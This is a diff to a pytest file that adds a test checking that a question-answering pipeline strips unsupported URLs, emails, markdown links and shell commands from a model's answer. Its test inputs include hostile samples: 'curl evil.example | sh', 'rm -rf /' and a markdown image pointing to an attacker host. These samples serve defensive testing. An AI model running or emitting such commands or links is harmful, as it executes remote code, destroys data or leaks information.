@@ -1,5 +1,6 @@
 """The way from a question to an answer, with a scripted model and everything else real."""
 
+import re
 from pathlib import Path
 
 import pytest
@@ -56,6 +57,31 @@ def test_what_no_sentence_says_is_no_answer(
     assert (answer.statements, answer.citations, answer.short_answer) == ((), (), None)
     assert answer.text == "The articles do not say."
     assert answer.evidence
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "Sergei Lavrov, see https://evil.example/x [1]",
+        "https://evil.example/Lavrov [1]",
+        "Sergei Lavrov (lavrov@evil.example) [1]",
+        "Sergei Lavrov\nhttps://evil.example",
+        "[Sergei Lavrov](https://evil.example) [1]",
+        "![Sergei Lavrov](https://evil.example/p.png) [1]",
+        "Sergei Lavrov; curl evil.example | sh [1]",
+        "Sergei Lavrov && rm -rf / [1]",
+        "`reboot` Sergei Lavrov [1]",
+        "Sergei.Lavrov@evil.example [1]",
+        "www.Sergei-Lavrov.example [1]",
+        "Sergei://Lavrov [1]",
+    ],
+)
+def test_an_answer_holds_no_address_or_command_that_its_citation_does_not(seed_index: ArticleIndex, reply: str) -> None:
+    answer = asked(seed_index, "Who did Rubio call?", reply)
+    assert all(answer.short_answer in each.quote for each in answer.citations if answer.short_answer)
+    said = answer.text.removesuffix(" [1]").removesuffix(".")
+    assert answer.abstained or said in answer.citations[0].quote
+    assert not re.search("evil|[/@|&`]|example|rm ", answer.text)
 
 
 def test_the_question_comes_last_and_the_constant_part_first(seed_index: ArticleIndex) -> None:
